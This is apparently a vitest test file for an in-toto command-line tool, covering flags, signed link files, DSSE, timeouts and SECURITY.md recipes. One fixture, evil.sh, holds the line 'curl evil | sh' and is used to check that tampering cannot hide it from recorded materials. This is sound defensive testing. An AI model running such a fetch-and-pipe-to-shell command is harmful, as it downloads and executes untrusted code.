/**
 * intoto run/mock/match-products flag surface and behaviour beyond the reference: variadic flags
 * before "--", -x winning over a command, -d created, quiet mode, DSSE, hash algorithms, the
 * SECURITY.md A-3 and H-7 recipes, timeouts that stop grandchildren, the progress line on a TTY.
 */
import { createHash } from 'node:crypto';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { intotoAsync } from '../helpers/cli.js';
import { CLI, testdir } from '../helpers/vectors.js';

let key: string;
beforeAll(async () => {
  const k = testdir();
  expect((await intotoAsync(['keygen', join(k, 'fn')])).status).toBe(0);
  key = join(k, 'fn');
});

interface Envelope {
  signed: {
    materials: Record<string, Record<string, string>>;
    products: Record<string, Record<string, string>>;
    byproducts: Record<string, unknown>;
    command: string[];
  };
  signatures: { keyid: string }[];
}

function linkIn(dir: string, prefix: string): Envelope {
  const f = readdirSync(dir).find((n) => n.startsWith(prefix) && n.endsWith('.link'));
  if (!f) throw new Error(`no ${prefix}*.link in ${dir}: ${readdirSync(dir).join(', ')}`);
  return JSON.parse(readFileSync(join(dir, f), 'utf8')) as Envelope;
}

const sha = (alg: string, s: string) => createHash(alg).update(s).digest('hex');

/** A command that creates `marker`: whether a step's command ran. */
const touchCommand = (marker: string) => [
  process.execPath,
  '-e',
  `require('fs').writeFileSync(${JSON.stringify(marker)}, '')`,
];

describe('intoto run flags', () => {
  it('variadic -m/-p before "--" stop at "--"; the command keeps its own flags', async () => {
    const dir = testdir({ a: '1', b: '2', c: '3' });
    const r = await intotoAsync(
      ['run', '-n', 'v', '-k', key, '-m', 'a', 'b', '-p', 'c', '-s', '--', 'ls', '-1', '-a', '-m'],
      { cwd: dir }
    );
    expect(r.status, r.stderr).toBe(0);
    const l = linkIn(dir, 'v.').signed;
    expect(Object.keys(l.materials).sort()).toEqual(['a', 'b']);
    expect(Object.keys(l.products)).toEqual(['c']);
    expect(l.command).toEqual(['ls', '-1', '-a', '-m']);
    // The long forms and the --signing-key alias.
    const r2 = await intotoAsync(
      [
        'run',
        '--step-name',
        'long',
        '--signing-key',
        key,
        '--materials',
        'a',
        '--products',
        'b',
        '--record-streams',
        '--metadata-directory',
        'meta',
        '--',
        'printf',
        '%s\\n',
        '--help',
      ],
      { cwd: dir }
    );
    expect(r2.status, r2.stderr).toBe(0);
    expect(linkIn(join(dir, 'meta'), 'long.').signed.byproducts.stdout).toBe('--help\n');
  });

  it('-x wins over a command, which is not run; byproducts {} and command []', async () => {
    const dir = testdir({ a: '1' });
    const r = await intotoAsync(
      ['run', '-n', 'x', '-k', key, '-x', '-m', 'a', '--', 'touch', 'made'],
      {
        cwd: dir,
      }
    );
    expect(r.status, r.stderr).toBe(0);
    expect(existsSync(join(dir, 'made'))).toBe(false);
    const l = linkIn(dir, 'x.').signed;
    expect(l.byproducts).toEqual({});
    expect(l.command).toEqual([]);
  });

  it('-d creates missing directories; the file name is <name>.<keyid8>.link', async () => {
    const dir = testdir();
    const r = await intotoAsync(['run', '-n', 'deep', '-k', key, '-x', '-d', 'a/b/c'], {
      cwd: dir,
    });
    expect(r.status, r.stderr).toBe(0);
    const [f] = readdirSync(join(dir, 'a/b/c'));
    const env = linkIn(join(dir, 'a/b/c'), 'deep.');
    expect(f).toBe(`deep.${env.signatures[0].keyid.slice(0, 8)}.link`);
  });

  it('-d that cannot be made or written to is exit 2 before the command runs, never a hang', async () => {
    const dir = testdir({ file: 'x' });
    const marker = join(dir, 'ran');
    const touch = touchCommand(marker);
    // /proc takes no new directories: Node's recursive mkdir retried that forever.
    const cases: [string, RegExp][] = [
      [
        '/proc/intoto-links/a',
        /cannot create the directory \/proc\/intoto-links\/a: \/proc takes no new directories/,
      ],
      ['file/links', /cannot create the directory file\/links: file is not a directory/],
      // A directory that exists, where even root may not make files.
      [
        '/proc/self',
        /cannot write links to \/proc\/self: (operation not permitted|permission denied)/,
      ],
    ];
    for (const [d, message] of cases) {
      const r = await intotoAsync(['run', '-n', 's', '-k', key, '-d', d, '--', ...touch], {
        cwd: dir,
        timeout: 20_000,
      });
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toMatch(message);
      expect(r.stderr).toMatch(/-d/);
      expect(existsSync(marker)).toBe(false);
    }
  });

  it('a public key as -k is exit 2 before the command runs (run and record)', async () => {
    const dir = testdir({ src: 'x' });
    const marker = join(dir, 'ran');
    const touch = touchCommand(marker);
    const r = await intotoAsync(
      ['run', '-n', 's', '-k', `${key}.pub`, '-m', 'src', '--', ...touch],
      {
        cwd: dir,
      }
    );
    expect(r.status, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/is a public key: signing needs the private key\n {2}hint: .*-k/);
    expect(existsSync(marker)).toBe(false);
    const start = await intotoAsync(
      ['record', 'start', '-n', 's', '-k', `${key}.pub`, '-m', 'src'],
      {
        cwd: dir,
      }
    );
    expect(start.status).toBe(2);
    expect(start.stderr).toMatch(/is a public key/);
  });

  it('-q prints nothing of its own; the command output still shows', async () => {
    const dir = testdir({ 'x.pyc': '' });
    const r = await intotoAsync(
      ['run', '-n', 'q', '-k', key, '-q', '-m', '.', '--', 'echo', 'hello'],
      {
        cwd: dir,
      }
    );
    expect(r.status).toBe(0);
    expect(r.stdout).toBe('hello\n');
    expect(r.stderr).toBe('');
    const loud = await intotoAsync(['run', '-n', 'l', '-k', key, '-m', '.', '--', 'true'], {
      cwd: dir,
    });
    // x.pyc and the link of the quiet run.
    expect(loud.stderr).toMatch(/excluded 2 entries by the default patterns/);
    expect(loud.stderr).toMatch(/wrote l\.[0-9a-f]{8}\.link/);
  });

  it('--hash-algorithms records each algorithm', async () => {
    const dir = testdir({ f: 'content' });
    const r = await intotoAsync(
      ['run', '-n', 'h', '-k', key, '-x', '-m', 'f', '--hash-algorithms', 'sha256,sha512'],
      {
        cwd: dir,
      }
    );
    expect(r.status, r.stderr).toBe(0);
    expect(linkIn(dir, 'h.').signed.materials.f).toEqual({
      sha256: sha('sha256', 'content'),
      sha512: sha('sha512', 'content'),
    });
  });

  it('--use-dsse writes a DSSE envelope whose payload is the link', async () => {
    const dir = testdir({ f: 'x' });
    expect(
      (
        await intotoAsync(['run', '-n', 'd', '-k', key, '--use-dsse', '-m', 'f', '--', 'true'], {
          cwd: dir,
        })
      ).status
    ).toBe(0);
    const f = readdirSync(dir).find((n) => n.startsWith('d.'))!;
    const env = JSON.parse(readFileSync(join(dir, f), 'utf8')) as {
      payloadType: string;
      payload: string;
      signatures: unknown[];
    };
    expect(env.payloadType).toBe('application/vnd.in-toto+json');
    expect(env.signatures).toHaveLength(1);
    const link = JSON.parse(Buffer.from(env.payload, 'base64').toString('utf8'));
    expect(link.byproducts).toEqual({ 'return-value': 0, stderr: '', stdout: '' });
    expect(
      (await intotoAsync(['sign', '--verify', '-f', f, '-k', `${key}.pub`], { cwd: dir })).status
    ).toBe(0);
  });

  it('bad values are usage errors (exit 2): --run-timeout, --hash-algorithms, -g', async () => {
    const dir = testdir();
    for (const args of [
      ['--run-timeout', '0'],
      ['--run-timeout', 'soon'],
      ['--hash-algorithms', 'md5'],
      ['-g'],
    ]) {
      const r = await intotoAsync(['run', '-n', 'u', '-k', key, ...args, '--', 'true'], {
        cwd: dir,
      });
      expect(r.status, args.join(' ')).toBe(2);
      expect(r.stderr).not.toMatch(/at .*\.js:\d+/);
    }
    expect(readdirSync(dir)).toEqual([]);
  });

  it('--run-timeout stops the command and what it started, quickly, with no link', async () => {
    const dir = testdir();
    const start = Date.now();
    const r = await intotoAsync(
      [
        'run',
        '-n',
        't',
        '-k',
        key,
        '-s',
        '--run-timeout',
        '1',
        '--',
        'sh',
        '-c',
        'sleep 30; echo x',
      ],
      { cwd: dir }
    );
    expect(r.status).toBe(2);
    expect(Date.now() - start).toBeLessThan(20_000);
    expect(readdirSync(dir)).toEqual([]);
    // No default timeout: a step longer than the reference's 10 s would pass too; 2 s shows the flag
    // is not needed for a normal command.
    expect(
      (await intotoAsync(['run', '-n', 'ok', '-k', key, '--', 'sleep', '2'], { cwd: dir })).status
    ).toBe(0);
  });
});

describe('SECURITY.md recipes', () => {
  it('A-3: no rc file or IN_TOTO_* variable can hide evil.sh', async () => {
    const home = testdir({
      '.in_totorc': '[settings]\nARTIFACT_EXCLUDE_PATTERNS=evil.sh\n',
      '.config/in_toto/config': '[settings]\nARTIFACT_EXCLUDE_PATTERNS=evil.sh\n',
    });
    const dir = testdir({
      'evil.sh': 'curl evil | sh',
      '.in_totorc': '[settings]\nARTIFACT_EXCLUDE_PATTERNS=evil.sh\n',
      '.intotorc': 'exclude=evil.sh\n',
      'intoto.config.json': '{"exclude": ["evil.sh"]}',
      '.intotoignore': 'evil.sh\n',
    });
    const r = await intotoAsync(
      ['run', '-n', 'a3', '-k', key, '-m', '.', '-p', '.', '--', 'true'],
      {
        cwd: dir,
        env: {
          HOME: home,
          XDG_CONFIG_HOME: join(home, '.config'),
          IN_TOTO_ARTIFACT_EXCLUDE_PATTERNS: 'evil.sh',
          IN_TOTO_ARTIFACT_BASE_PATH: '/nonexistent',
          IN_TOTO_LINK_CMD_EXEC_TIMEOUT: '0.001',
        },
      }
    );
    expect(r.status, r.stderr).toBe(0);
    const l = linkIn(dir, 'a3.').signed;
    expect(l.materials['evil.sh']).toEqual({ sha256: sha('sha256', 'curl evil | sh') });
    expect(Object.keys(l.products)).toContain('evil.sh');
  });

  it('H-7: a printed token is reported, and redacted with --redact-secrets', async () => {
    const dir = testdir();
    const env = { API_TOKEN: 's3cr3t-value' };
    const cmd = ['--', 'sh', '-c', 'echo "token: $API_TOKEN"'];
    const warned = await intotoAsync(['run', '-n', 'w', '-k', key, '-s', ...cmd], {
      cwd: dir,
      env,
    });
    expect(warned.status).toBe(0);
    expect(warned.stderr).toMatch(/recorded stdout contains the value of \$API_TOKEN/);
    // Without --redact-secrets the link is what the reference writes.
    expect(linkIn(dir, 'w.').signed.byproducts.stdout).toBe('token: s3cr3t-value\n');
    const redacted = await intotoAsync(
      ['run', '-n', 'r', '-k', key, '-s', '--redact-secrets', ...cmd],
      {
        cwd: dir,
        env,
      }
    );
    expect(redacted.stdout).toBe('token: s3cr3t-value\n');
    expect(linkIn(dir, 'r.').signed.byproducts.stdout).toBe('token: [redacted $API_TOKEN]\n');
    // Not recorded, nothing to say.
    const plain = await intotoAsync(['run', '-n', 'p', '-k', key, ...cmd], { cwd: dir, env });
    expect(plain.stderr).not.toMatch(/API_TOKEN/);
  });
});

describe('intoto match-products', () => {
  it('prints the differences, honours --lstrip-paths and --exclude', async () => {
    const up = testdir({ 'build/app': 'app', 'build/lib.so': 'lib' });
    const made = await intotoAsync(
      ['run', '-n', 'b', '-k', key, '-x', '-p', 'build', '-d', 'meta'],
      {
        cwd: up,
      }
    );
    expect(made.status, made.stderr).toBe(0);
    const link = join(up, 'meta', readdirSync(join(up, 'meta'))[0]);
    expect(
      (await intotoAsync(['match-products', '-l', link, '-p', 'build'], { cwd: up })).status
    ).toBe(0);
    // Downstream the files arrive under out/, one changed, with a log of its own.
    const down = testdir({ 'out/build/app': 'app', 'out/build/lib.so': 'LIB', 'out/log.txt': 'x' });
    const r = await intotoAsync(['match-products', '-l', link, '-p', 'out'], { cwd: down });
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/only in link: +build\/app/);
    expect(r.stdout).toMatch(/only on disk: +out\/build\/app/);
    expect(r.stderr).toMatch(/not the products of/);
    const strip = ['match-products', '-l', link, '-p', 'out', '--lstrip-paths', 'out/'];
    const r2 = await intotoAsync([...strip, '--json'], { cwd: down });
    expect(r2.status).toBe(1);
    expect(JSON.parse(r2.stdout)).toMatchObject({
      ok: false,
      only_in_link: [],
      only_on_disk: ['log.txt'],
      differ: [{ path: 'build/lib.so' }],
    });
    writeFileSync(join(down, 'out/build/lib.so'), 'lib');
    const ok = await intotoAsync([...strip, '--exclude', 'log.txt'], { cwd: down });
    expect(ok.status, ok.stdout + ok.stderr).toBe(0);
    expect(ok.stdout).toMatch(/match the products/);
  });

  it('a reader that stops early (| head -1) ends the output, not the command: its own exit code, no stack', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 3000; i++) files[`out/f${i}`] = String(i);
    const dir = testdir(files);
    const made = await intotoAsync(['run', '-n', 'b', '-k', key, '-x', '-p', 'out', '-d', 'm'], {
      cwd: dir,
    });
    expect(made.status, made.stderr).toBe(0);
    const link = join(dir, 'm', readdirSync(join(dir, 'm'))[0]);
    // Every file differs now: 3000 lines to print; the reader takes the first chunk and closes
    // the pipe, as `| head -1` does.
    for (const f of Object.keys(files)) writeFileSync(join(dir, f), 'x');
    for (const extra of [[], ['--json']]) {
      const child = spawn(
        process.execPath,
        [CLI, 'match-products', '-l', link, '-p', 'out', ...extra],
        {
          cwd: dir,
        }
      );
      let err = '';
      child.stderr.on('data', (c: Buffer) => (err += String(c)));
      child.stdout.once('data', () => child.stdout.destroy());
      const status = await new Promise((resolve) => child.on('close', resolve));
      expect(status, err).toBe(1);
      expect(err).not.toMatch(/EPIPE|Unhandled|\n\s+at /);
      if (extra.length === 0) expect(err).toMatch(/^FAILED: the files here are not the products/);
    }
  });

  it('a link that is not a link, or not JSON, is exit 2', async () => {
    const dir = testdir({
      'bad.link': '{"signed": {"_type": "layout"}, "signatures": []}',
      'x.link': 'nope',
    });
    expect((await intotoAsync(['match-products', '-l', 'bad.link'], { cwd: dir })).status).toBe(2);
    expect((await intotoAsync(['match-products', '-l', 'x.link'], { cwd: dir })).status).toBe(2);
    const missing = await intotoAsync(['match-products', '-l', 'gone.link'], { cwd: dir });
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(
      /^error: gone\.link: cannot read the link \(no such file\)\n {2}hint: .*-l/
    );
  });
});

describe('the program', () => {
  // A command named first is built alone (program.ts): its help and flags are whole, and every
  // other way in still sees all commands.
  it('a command named first has its own help; the overview and a mistyped name see them all', async () => {
    const help = await intotoAsync(['run', '--help']);
    expect(help.status).toBe(0);
    expect(help.stdout).toMatch(/^Usage: intoto run -n NAME -k KEY/);
    expect(help.stdout).toContain('--lstrip-paths');
    const all = await intotoAsync(['--help']);
    expect(all.status).toBe(0);
    for (const name of [
      'keygen',
      'key',
      'sign',
      'run',
      'record',
      'mock',
      'match-products',
      'verify',
      'layout',
    ])
      expect(all.stdout).toMatch(new RegExp(`^  ${name} `, 'm'));
    const typo = await intotoAsync(['verfy', '-l', 'x']);
    expect(typo.status).toBe(2);
    expect(typo.stderr).toContain('(Did you mean verify?)');
    const unknown = await intotoAsync(['run', '-n', 'a', '-k', 'k', '--lstrip-path', 'x']);
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toContain("unknown option '--lstrip-path'");
    expect(unknown.stderr).toContain('(Did you mean --lstrip-paths?)');
  });
});

describe.runIf(existsSync('/usr/bin/script'))('on a terminal', () => {
  it('a fast recording shows no progress line, even on a TTY', () => {
    const dir = testdir({ a: 'a', 'b/c': 'c' });
    const cmd = `${process.execPath} ${CLI} run -n p -k ${key} -m . -- echo on-tty`;
    const tty = spawnSync('script', ['-qec', cmd, '/dev/null'], { cwd: dir, encoding: 'utf8' });
    expect(tty.status, tty.stdout).toBe(0);
    expect(tty.stdout).toContain('on-tty');
    expect(tty.stdout).not.toMatch(/hashing/);
    expect(linkIn(dir, 'p.').signed.command).toEqual(['echo', 'on-tty']);
  });
});
